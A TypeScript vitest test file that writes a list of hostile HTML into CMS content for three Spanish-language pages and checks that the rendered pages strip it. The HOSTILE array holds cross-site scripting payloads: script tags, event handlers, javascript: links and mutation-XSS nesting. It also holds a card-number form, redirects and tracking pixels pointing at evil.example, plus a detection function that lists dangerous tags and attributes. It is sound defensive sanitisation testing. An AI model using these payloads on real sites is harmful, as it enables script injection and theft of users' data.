import { describe, expect, it } from 'vitest';
import { type Element, findAll } from '#tests/support/html/parse-html.ts';
import { siteForTests } from '#tests/support/open-test-site.ts';

const site = siteForTests();

const HOSTILE = [
  '<script>window.hacked=1</script>',
  '<svg onload="window.hacked=1"><script>window.hacked=1</script><a href="javascript:hacked">x</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="hacked"></style></mglyph></table></mtext></math>',
  '<style>.hacked{color:red}</style>',
  '<form action="https://evil.example"><input name="cardNumber"><button>OK</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<p onclick="hacked" onmouseover=hacked style="position:fixed" id="main" class="button">texto</p>',
  '<a href="javascript:alert(1)">a</a><a href="java&#10;script:alert(1)">b</a><a href="//evil.example">c</a>',
  '<a href="data:text/html,<script>1</script>">d</a><a href="https://ok.example" target="_blank">e</a>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  '<img src="https://evil.example/pixel.gif"><img src=x onerror="hacked"><video src=x onerror=hacked></video>',
  '<noscript><p title="</noscript><img src=x onerror=hacked>"></noscript><template><script>1</script></template>',
];

/** Elements and attributes in content that would make a browser run, fetch or send something. */
function listHarm(elements: Element[]): string[] {
  return elements.flatMap(({ name, attributes }) => [
    ...([
      'svg',
      'math',
      'style',
      'form',
      'base',
      'meta',
      'link',
      'iframe',
      'object',
      'embed',
      'video',
    ].includes(name)
      ? [name]
      : []),
    ...Object.keys(attributes).filter((key) => /^on|^style$|^target$/.test(key)),
    ...[attributes.href, attributes.src, attributes.action].filter((value) =>
      /^\s*(?:javascript|data|vbscript):|^\/\/|evil/i.test(value ?? ''),
    ),
  ]) as string[];
}

describe('hostile markup in content', () => {
  it.each([
    ['/info/terminos-y-condiciones', 'info_pages', 'terminos-y-condiciones'],
    ['/promos', 'promos', undefined],
    ['/jobs', 'jobs', undefined],
  ])('is not executed on %s', async (path, collection, slug) => {
    const relation = `${collection}_id`;
    const rows = await site.query<{ id: number; owner: number }>(
      `SELECT t.id, t.${relation} AS owner FROM content.${collection}_translations t
       JOIN content.${collection} o ON o.id = t.${relation}
       WHERE languages_code = 'es-ES' ${slug ? `AND o.slug = '${slug}'` : ''}`,
    );
    expect(rows.length).toBeGreaterThan(0);
    const content = `<p>antes</p>${HOSTILE.join('')}<p>después</p>`;
    for (const { id } of rows) await site.edit(`${collection}_translations`, { id: String(id) }, { content });
    const page = await site.visit().get(path);
    expect(page.status).toBe(200);
    expect(page.text).toContain('antes');
    expect(page.text).toContain('después');
    expect(page.body).not.toMatch(/hacked|evil\.example/);
    const articles = findAll(page.root, ({ attributes }) => /rich-text/.test(attributes.class ?? ''));
    expect(articles.length).toBeGreaterThan(0);
    expect(listHarm(articles.flatMap((article) => findAll(article, () => true)))).toEqual([]);
  });
});
